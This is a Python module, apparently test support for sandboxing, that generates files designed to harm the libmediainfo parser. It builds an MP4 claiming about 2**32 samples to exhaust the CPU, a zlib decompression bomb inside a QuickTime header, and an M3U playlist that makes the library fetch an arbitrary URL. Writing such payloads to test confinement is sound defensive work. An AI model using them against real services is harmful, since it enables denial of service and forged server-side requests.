"""Makes files that harm libmediainfo. Each is small and known to do so without confinement."""

import struct
import zlib


def endless_mp4() -> bytes:
    """Make 527 bytes that claim 2**32 samples: libmediainfo counts them one by one."""
    counts = struct.pack(">II", 0x7FFFFFFF, 0xFFFFFFFF) + struct.pack(">I", 1)
    stts = _box(b"stts", bytes(4) + counts + struct.pack(">II", 0xFFFFFFFF, 1) * 3)
    stsz = _box(b"stsz", bytes(4) + struct.pack(">II", 1, 0x7FFFFFFF))
    stco = _box(b"stco", bytes(4) + struct.pack(">I", 0x3FFFFFFF) + bytes(16))
    stsd = _box(b"stsd", bytes(4) + struct.pack(">I", 1) + _box(b"avc1", bytes(78)))
    return _movie(stsd + stts + stsz + stco)


def swelling_mov(size_bytes: int) -> bytes:
    """Make a compressed header that unpacks to `size_bytes` of zeros."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size_bytes >> 20)) + packer.flush()
    unpacked_size = struct.pack(">I", size_bytes)
    compressed = _box(b"cmov", _box(b"dcom", b"zlib") + _box(b"cmvd", unpacked_size + packed))
    return _FTYP + _box(b"moov", compressed)


def playlist(url: str) -> bytes:
    """Make text that leads libmediainfo to fetch `url`."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}\n#EXT-X-ENDLIST\n".encode()


def _box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), name) + content


def _movie(samples: bytes) -> bytes:
    times = struct.pack(">IIHH", 1000, 1000, 0, 0)
    media = (
        _box(b"mdhd", bytes(12) + times)
        + _box(b"hdlr", bytes(8) + b"vide" + bytes(13))
        + _box(b"minf", _box(b"stbl", samples))
    )
    track = _box(b"trak", _box(b"tkhd", bytes(84)) + _box(b"mdia", media))
    return _FTYP + _box(b"moov", _box(b"mvhd", bytes(100)) + track)


_FTYP = _box(b"ftyp", b"qt  \0\0\2\0qt  ")
